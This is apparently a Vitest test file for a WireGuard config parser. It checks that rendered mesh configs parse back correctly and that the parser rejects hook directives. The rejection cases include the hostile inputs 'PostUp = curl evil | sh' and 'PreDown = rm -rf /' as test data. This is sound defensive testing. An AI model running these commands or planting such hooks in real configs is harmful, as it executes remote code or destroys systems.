import { describe, expect, it } from "vitest";
import { parseWgQuickConfig } from "../../../src/agent/wg-quick.js";
import { renderNodeConfig } from "../../../src/mesh/index.js";

const HUB = "g4W6buI/GSZ+RdXDsMwRKXIvvriUG1haE8U3vwnvNg8=";
const PEER = "UdSYczhkS/SMF9ZhroEyH2gpwSo/OjXtXJl/iEQiqAU=";

describe("parseWgQuickConfig", () => {
  it("reads back every field wiresync renders", () => {
    const network = {
      id: "n",
      name: "office",
      cidr4: "10.1.0.0/24",
      cidr6: "fd00:1::/64",
      listenPort: 51820,
      endpoint: "vpn.example.com:51820",
      topology: "mesh" as const,
      dns: ["10.1.0.1", "corp.example"],
      mtu: 1380,
      persistentKeepalive: 25,
      hubPublicKey: HUB,
      hubIp4: "10.1.0.1",
      hubIp6: "fd00:1::1",
    };
    const me = {
      id: "a",
      name: "a",
      publicKey: PEER,
      ip4: "10.1.0.2",
      ip6: "fd00:1::2",
      endpoint: "203.0.113.9:51000",
      extraAllowedIps: [],
      status: "online",
    };
    const other = {
      ...me,
      id: "b",
      name: "b",
      publicKey: HUB.replace("g4", "h4"),
      ip4: "10.1.0.3",
      ip6: null,
      endpoint: null,
    };
    const text = renderNodeConfig({ network, node: me, nodes: [me, other], privateKey: PEER });
    const parsed = parseWgQuickConfig(text);
    expect(parsed.interface).toEqual({
      privateKey: PEER,
      addresses: ["10.1.0.2/24", "fd00:1::2/64"],
      listenPort: 51000,
      dns: ["10.1.0.1", "corp.example"],
      mtu: 1380,
    });
    expect(parsed.peers).toEqual([
      {
        publicKey: HUB,
        allowedIps: ["10.1.0.1/32", "fd00:1::1/128"],
        endpoint: "vpn.example.com:51820",
        persistentKeepalive: 25,
        presharedKey: undefined,
      },
      {
        publicKey: other.publicKey,
        allowedIps: ["10.1.0.3/32"],
        endpoint: undefined,
        persistentKeepalive: 25,
        presharedKey: undefined,
      },
    ]);
  });

  it.each([
    ["a PostUp hook", "[Interface]\nPostUp = curl evil | sh\n", /PostUp is not accepted/],
    ["a PreDown hook in a peer", "[Peer]\nPublicKey = x\nPreDown = rm -rf /\n", /PreDown is not accepted/],
    ["an unknown section", "[Hooks]\n", /unknown section/],
    ["a key outside any section", "PrivateKey = x\n", /inside a section/],
    ["a peer without a key", "[Peer]\nAllowedIPs = 10.0.0.0/24\n", /no PublicKey/],
    ["a port out of range", "[Interface]\nListenPort = 70000\n", /ListenPort must be/],
  ])("refuses %s", (_name, text, message) => {
    expect(() => parseWgQuickConfig(text)).toThrow(message);
  });
});
